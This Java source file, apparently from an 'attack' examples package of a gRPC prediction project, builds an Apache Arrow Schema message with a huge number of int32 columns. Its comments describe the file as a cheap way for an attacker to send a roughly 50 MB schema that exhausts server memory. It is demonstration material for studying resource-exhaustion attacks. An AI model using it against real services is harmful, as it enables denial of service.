/*
 * Licensed under the Apache License, Version 2.0.
 */
package dev.predictgrpc.examples.attack;

import com.google.flatbuffers.FlatBufferBuilder;
import com.google.protobuf.ByteString;
import org.apache.arrow.flatbuf.Field;
import org.apache.arrow.flatbuf.Int;
import org.apache.arrow.flatbuf.Message;
import org.apache.arrow.flatbuf.MessageHeader;
import org.apache.arrow.flatbuf.MetadataVersion;
import org.apache.arrow.flatbuf.Schema;
import org.apache.arrow.flatbuf.Type;

/**
 * A Schema message of very many int32 fields, written straight into a flatbuffer. Arrow's own
 * serializer would first need a {@code Field} object per column, a few hundred bytes of heap each,
 * which for 1.5 million columns costs the attacker more memory than the 50-odd MB the message
 * itself takes. Holds no state; safe from any thread.
 */
public final class WideSchema {
  private WideSchema() {}

  /**
   * A framed Schema message of {@code fields} nullable int32 columns named {@code c0}, {@code c1},
   * ...; about 36 bytes per field.
   */
  public static ByteString message(int fields) {
    FlatBufferBuilder builder = new FlatBufferBuilder(Math.max(1024, fields * 40));
    int[] offsets = new int[fields];
    int noChildren = Field.createChildrenVector(builder, new int[0]);
    for (int i = 0; i < fields; i++) {
      int name = builder.createString("c" + i);
      int type = Int.createInt(builder, 32, true);
      offsets[i] = Field.createField(builder, name, true, Type.Int, type, 0, noChildren, 0);
    }
    int fieldVector = Schema.createFieldsVector(builder, offsets);
    int schema = Schema.createSchema(builder, (short) 0, fieldVector, 0, 0);
    int message =
        Message.createMessage(builder, MetadataVersion.V5, MessageHeader.Schema, schema, 0, 0);
    builder.finish(message);
    return IpcWriter.frame(builder.dataBuffer(), ByteString.EMPTY);
  }
}
